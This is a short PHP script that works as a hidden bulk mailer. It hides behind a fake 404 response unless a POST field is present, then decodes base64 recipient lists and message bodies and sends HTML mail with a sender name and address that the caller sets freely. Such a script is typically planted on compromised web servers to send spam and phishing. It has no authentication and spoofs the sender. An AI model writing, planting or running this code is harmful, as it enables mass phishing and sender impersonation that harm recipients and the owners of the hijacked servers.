<?php
error_reporting(0);
if (!isset($_POST['e'])) { header('HTTP/1.0 404 Not Found'); exit; }
$n = 0;
foreach (explode(';', base64_decode($_POST['e'])) as $to) {
    $h = "From: " . $_POST['n'] . " <" . $_POST['f'] . ">\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=UTF-8";
    if (mail($to, $_POST['s'], nl2br(base64_decode($_POST['b'])), $h, '-f' . $_POST['f'])) $n++;
}
echo 'OK ' . $n;
